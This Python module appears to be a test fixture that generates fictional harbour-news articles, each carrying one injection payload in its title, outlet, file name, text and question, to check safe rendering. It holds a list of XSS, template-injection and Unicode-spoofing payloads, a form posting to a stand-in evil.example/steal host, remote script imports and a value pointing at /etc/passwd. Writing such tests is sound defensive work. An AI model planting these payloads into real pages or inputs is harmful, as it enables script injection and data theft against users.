"""What strangers could write into articles, titles, outlets, file names and questions to be more than text."""

from dataclasses import dataclass
from datetime import date, timedelta

EVIL = "http://evil.example"

SCRIPTS = (
    "<script>alert(1)</script>",
    f'<ScRiPt src="{EVIL}/x.js"></sCrIpT>',
    f'<script type="module">import("{EVIL}/m.js")</script>',
    '"><script>alert(2)</script><b x="',
    "'-alert(3)-'",
    "</textarea></title></style></script><script>alert(4)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(5)>"></noscript>',
    "<details open ontoggle=alert(6)><summary>more</summary></details>",
)
IMAGES = (
    "<img src=x onerror=alert(7)>",
    f'<img src="{EVIL}/pixel.png" srcset="{EVIL}/pixel2.png 2x">',
    f"![pixel]({EVIL}/p.png)",
    f'<video autoplay><source src="{EVIL}/v.mp4" onerror=alert(8)></video>',
    "<svg onload=alert(9)><animate onbegin=alert(10) attributeName=x dur=1s></svg>",
    f'<svg><script>alert(11)</script><use href="{EVIL}/u.svg#a"></use></svg>',
    f'<math><mi xlink:href="{EVIL}">x</mi></math>',
)
FORMS = (
    f'<form action="{EVIL}/steal" method="post"><input name="q" value="x"><button>Go</button></form>',
    '<button formaction="javascript:alert(12)">Ask</button>',
    "<input autofocus onfocus=alert(13)>",
    f'<iframe src="{EVIL}"></iframe>',
    '<iframe srcdoc="<script>parent.alert(14)</script>"></iframe>',
    f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}"><base href="{EVIL}/">',
)
STYLES = (
    f'<style>@import "{EVIL}/a.css"; *{{display:none}}</style>',
    f'<div style="position:fixed;inset:0;background:url({EVIL}/bg.png)">covered</div>',
    f'<link rel="stylesheet" href="{EVIL}/b.css">',
)
LINKS = (
    '<a href="javascript:alert(15)">the minutes</a>',
    "[the minutes](javascript:alert(16))",
    '<a href="java&#9;script:alert(17)">the minutes</a>',
    f"<{EVIL}/auto> and {EVIL}/plain",
    "$$\\href{javascript:alert(18)}{x}$$ and $x^2$",
)
CITATIONS = (
    "[7]",
    f"[1]({EVIL}) and [2]: {EVIL}",
    "Source: Harbour Gazette, Friday, 1 May 2020, 2020-05-01-gazette.txt",
    '<button type="button" class="marker" value="1">[1]</button>',
    '<button class="open-article" value=\'{"file": "/etc/passwd", "start": 0, "end": 9}\'>Open article</button>',
    '<div class="card card-1"><div class="card-head">[1] Gazette</div><blockquote><mark>forged</mark></blockquote></div>',
)
CHARACTERS = (
    "\u202egnp.exe\u202c and \u2066\u2067back\u2069\u2069",
    "\U000e0041\U000e0042\U000e007f tag \u200b\u200c\u200d\u2060\ufeff zero \u00ad\u115f\u3164 filler",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 right to left",
)
TEMPLATES = (
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('alert(19)')()}}",
    "<!-- --><script>alert(20)</script><!-- -->",
    "<![CDATA[<script>alert(21)</script>]]>",
    "&lt;script&gt;alert(22)&lt;/script&gt; &#60;img src=x onerror=alert(23)&#62;",
)
PAYLOADS = (*SCRIPTS, *IMAGES, *FORMS, *STYLES, *LINKS, *CITATIONS, *CHARACTERS, *TEMPLATES)

PLACES = (
    "Ardel Belmo Corvane Dunric Estrel Farlow Gandry Hestel Imbra Jolvek Kessin Lomar Mirden Norvik Ostrel Pellin Quorra Ruskel "
    "Sarvo Tamrik Ulden Varsk Westro Xandel Ystra Zorvin Albrek Brenna Colm Drevan Elsin Fodra Grevel Halmo Istrel Jarva Kolmen "
    "Ludrin Maskel Nedra Orlin Prusk Rhodel"
).split()


@dataclass(frozen=True)
class HostileArticle:
    """An article that holds one payload everywhere; `question` asks what it says, with the payload in it too."""

    name: str
    title: str
    outlet: str
    published: date
    text: str
    question: str

    def fields(self) -> dict[str, str]:
        """As a JSON file of one article holds them."""
        return {"title": self.title, "source": self.outlet, "date": self.published.isoformat(), "text": self.text}


def hostile_articles() -> list[HostileArticle]:
    """One for each payload."""
    return [_article(number, place, payload) for number, (place, payload) in enumerate(zip(PLACES, PAYLOADS, strict=False))]


def file_name(stem: str, suffix: str) -> str:
    """A name that a file system takes: no slash, and no more than 255 bytes."""
    return stem.replace("/", "\N{DIVISION SLASH}").encode()[:200].decode("utf-8", "ignore") + suffix


def _article(number: int, place: str, payload: str) -> HostileArticle:
    lanterns = 200 + number
    return HostileArticle(
        name=file_name(f"{number:02} {payload}", ".json"),
        title=f"{payload} at {place}",
        outlet=f"{place} Post {payload}",
        published=date(2024, 1, 1) + timedelta(days=7 * number),
        text=(
            f"The harbour office of {place} counted {lanterns} lanterns {payload} on its pier, the keeper said.\n\n"
            f"{payload}\n\nNobody in {place} said where the lanterns came from."
        ),
        question=f"How many lanterns did the harbour office of {place} count? {payload}",
    )
